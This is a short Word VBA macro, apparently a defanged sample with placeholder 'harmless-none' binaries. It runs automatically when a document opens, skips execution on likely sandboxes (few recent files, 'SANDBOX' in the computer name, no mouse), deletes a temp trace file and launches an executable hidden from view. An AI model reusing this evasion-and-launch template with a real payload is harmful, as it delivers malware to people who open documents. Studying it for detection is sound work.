Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoOpen()
    StopHere
    If Application.RecentFiles.Count < 3 Then Exit Sub
    If InStr(1, Environ("COMPUTERNAME"), "SANDBOX") > 0 Or UserName = "" Then Exit Sub
    If System.Country <> wdJapan And Not System.MouseAvailable Then Exit Sub
    Kill Environ("TEMP") & "\trace.tmp"
    Shell "harmless-none.exe", vbHide
End Sub
